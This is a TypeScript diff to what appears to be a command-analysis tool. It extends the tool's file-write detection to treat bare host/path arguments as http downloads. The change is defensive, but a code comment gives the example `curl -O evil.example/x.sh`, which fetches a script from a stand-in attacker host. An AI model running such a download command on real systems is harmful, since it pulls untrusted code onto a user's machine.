@@ -443,9 +443,10 @@ function remoteNameWrites(r: NonNullable<PathRoles["remoteName"]>, w: CommandWor
   if ((r.when !== undefined && !has(r.when)) || has(r.unless)) return [];
   const dir = r.dir.flatMap((o) => w.options.get(o) ?? [])[0] ?? ".";
   if (has(r.anyName)) return [{ word: dir, mode: "write", via: "argument", positional: false, recursive: true }];
+  // A bare `host/path` is fetched over http (`curl -O evil.example/x.sh` saves x.sh), as urlsOf reads it.
   return w.positionals
     .slice(subLength)
-    .filter(isUrl)
+    .flatMap((p) => (isUrl(p) ? [p] : BARE_HOST.test(p) ? [`http://${p}`] : []))
     .map(
       (url): PathWord => ({
         word: `${dir.replace(/\/+$/, "")}/${remoteFileName(url)}`,
